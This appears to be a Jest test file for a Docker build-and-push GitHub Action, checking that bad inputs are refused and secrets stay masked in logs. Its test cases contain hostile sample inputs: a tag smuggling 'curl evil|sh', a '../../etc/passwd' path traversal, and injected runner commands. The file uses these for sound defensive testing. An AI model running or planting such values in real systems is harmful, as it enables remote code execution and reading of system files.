import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { beforeAll, beforeEach, describe, expect, test } from '@jest/globals'
import { closedBehindAll } from '../support/closed-behind-all.ts'
import { type DistBench, openDistBench } from '../support/dist-bench.ts'
import { type GitHubApi, startGitHubApi } from '../support/github-api/server.ts'
import { startRegistry, type TestRegistry } from '../support/registry-server.ts'

/** Bad inputs and events that lie beside the project on a maintainer's machine; one folder a case. */
const CASES = join(import.meta.dirname, '../../../shared/devset/bad')

const openings = closedBehindAll()
let bench: DistBench
let api: GitHubApi
let registry: TestRegistry
beforeAll(async () => {
  bench = await openings.keep(openDistBench())
  api = await openings.keep(
    startGitHubApi({
      repository: { name: 'org/r', defaultBranch: 'main', branches: new Map() },
      tokens: new Map([['t0ken-of-the-run', { contents: 'read' }]]),
    }),
  )
  await bench.repository({
    'Dockerfile.base': 'FROM scratch\nCOPY a /a\n',
    Dockerfile: 'FROM ghcr.io/org/r-base\nCOPY b /b\n',
    a: 'a\n',
    b: 'b\n',
  })
}, 120_000)
beforeEach(async () => {
  registry = await startRegistry()
  await bench.recorder('docker')
  await bench.recorder('curl', 'exit 0')
})

const push = {
  name: 'push',
  ref: 'refs/heads/main',
  payload: { ref: 'refs/heads/main', repository: { default_branch: 'main' } },
}
const dispatch = { ...push, name: 'workflow_dispatch' }

interface Given {
  readonly event?: typeof push | { name: string; ref: string; payload: unknown }
  readonly inputs: Readonly<Record<string, string>>
}

/** Runs main, and holds it to what is true of every run on bad input. */
async function runMain({ event = push, inputs }: Given) {
  await using answering = registry
  const end = await bench.run('main', {
    event,
    inputs: {
      registry: `${answering.host}/org`,
      'github-token': 't0ken-of-the-run',
      summary: 'true',
      ...inputs,
    },
    env: { GITHUB_API_URL: api.url },
  })
  expect(await bench.calls('curl')).toEqual([])
  expect(end.refused).toEqual([])
  expect(end.stderr).toBe('')
  expect(end.stdout).not.toMatch(/^\s+at /m)
  // The runner masks it: the one place where it may stand.
  expect(end.stdout.replace('::add-mask::t0ken-of-the-run', '')).not.toContain('t0ken')
  expect(end.summary).not.toContain('t0ken')
  const writes = answering.log.filter(line => !/^(?:GET|HEAD) /.test(line))
  return { ...end, writes }
}

describe('main refuses', () => {
  test.each<{ what: string; given: Given; says: RegExp }>([
    {
      what: 'a tag with shell text',
      given: { event: dispatch, inputs: { tag: 'v1;curl evil|sh' } },
      says: /"v1;curl evil\|sh" is not a tag%0A.*Use letters, digits/,
    },
    {
      what: 'a truth that YAML does not know',
      given: { inputs: { push: 'yes' } },
      says: /the input push is "yes"%0A.*auto, true or false/,
    },
    {
      what: 'another command',
      given: { inputs: { command: 'bulid' } },
      says: /the input command is "bulid"/,
    },
    {
      what: 'a config out of the repository',
      given: { inputs: { config: '../../etc/passwd' } },
      says: /\.\.\/\.\.\/etc\/passwd/,
    },
    {
      what: 'a command to the runner in an input',
      given: { inputs: { images: 'x\n::set-output name=digest::evil' } },
      says: /::error::there is no image "(?:x|::set-output)/,
    },
    {
      what: 'a secret without a name',
      given: { inputs: { secrets: '=hunter2hunter2' } },
      says: /an item of the input secrets is not of the form id=value/,
    },
  ])('$what', async ({ given, says }) => {
    const { exitCode, stdout, writes, outputs } = await runMain(given)
    expect(stdout).toMatch(says)
    expect(stdout.split('\n').filter(line => /^::(?!error|add-mask|debug)/.test(line))).toEqual([])
    expect(stdout).not.toContain('hunter2')
    expect([exitCode, writes, outputs, await bench.calls('docker')]).toEqual([1, [], {}, []])
  })
})

test('what a build prints of its secrets and to command the runner stays a text, everywhere', async () => {
  await bench.recorder(
    'docker',
    `case "$*" in
  "buildx version") echo v0 ;;
  "buildx inspect") printf 'Name: b\\nDriver: docker-container\\n' ;;
  "buildx bake"*)
    echo 'token hunter2hunter2 of t0ken-of-the-run'
    printf 'x\\r::set-output name=digest::evil\\n##[error]evil\\n::error::evil\\n' >&2
    echo 'ERROR: failed with hunter2hunter2' >&2
    exit 1 ;;
esac`,
  )
  const { exitCode, stdout, summary, outputs, writes } = await runMain({
    inputs: { secrets: 'pip=hunter2hunter2' },
  })
  expect([exitCode, writes]).toEqual([1, []])
  const masks = ['::add-mask::hunter2hunter2', '::add-mask::t0ken-of-the-run']
  const lines = stdout.split('\n').filter(line => !masks.includes(line))
  const report = readFileSync(outputs.report ?? '', 'utf8')
  for (const shown of [lines.join('\n'), summary, report, JSON.stringify(outputs)]) {
    expect(shown).not.toContain('hunter2')
    expect(shown).not.toContain('t0ken')
  }
  expect(report).toContain('failed with ***')
  expect(stdout).not.toMatch(/^\s*::(?:set-output|error::evil)/m)
  expect(stdout).not.toContain('##[')
  expect(outputs.digest).toBe('')
})

const indexFile = join(CASES, 'index.jsonl')
if (existsSync(indexFile)) {
  describe('main answers as the index of bad cases says to', () => {
    const cases = readFileSync(indexFile, 'utf8')
      .split('\n')
      .filter(line => line !== '')
      .map(line => JSON.parse(line) as BadCase)
      .filter(({ category }) => category === 'inputs' || category === 'event')
    test.each(cases)('$id', async ({ dir, category, kind, must_mention: mentions }) => {
      const given = category === 'inputs' ? inputsOf(dir) : eventOf(dir)
      const { exitCode, stdout, summary, writes, outputs } = await runMain(given)
      expect(writes).toEqual([])
      expect(await bench.calls('docker')).toEqual([])
      if (kind === 'error') {
        expect(exitCode).toBe(1)
        for (const word of mentions) {
          expect(stdout).toContain(word)
        }
        return
      }
      expect([exitCode, stdout.match(/^::error.*/m)]).toEqual([0, null])
      expect(summary).toContain('| Image | Outcome |')
      // Nothing was published before: nothing may be called unchanged.
      const { images } = JSON.parse(outputs.plan ?? '') as { images: readonly { state: string }[] }
      expect(images.map(({ state }) => state)).toEqual(['missing', 'missing'])
    })
  })
} else {
  test.skip('the bad cases are not on this machine', () => undefined)
}

interface BadCase {
  readonly id: string
  readonly dir: string
  readonly category: string
  readonly kind: string
  readonly must_mention: readonly string[]
}

function inputsOf(dir: string): Given {
  return { event: dispatch, inputs: readCase(dir, 'inputs.json') as Record<string, string> }
}

/** Planned only: what such runs build and push is a matter of the tests on real engines. */
function eventOf(dir: string): Given {
  const payload = readCase(dir, 'event.json') as { readonly ref?: string; _event?: string }
  const ref = payload.ref ?? 'refs/pull/1/merge'
  const name = payload._event ?? (payload.ref === undefined ? 'pull_request' : 'push')
  return { event: { name, ref, payload }, inputs: { command: 'plan' } }
}

function readCase(dir: string, file: string): unknown {
  return JSON.parse(readFileSync(join(CASES, dir, file), 'utf8'))
}
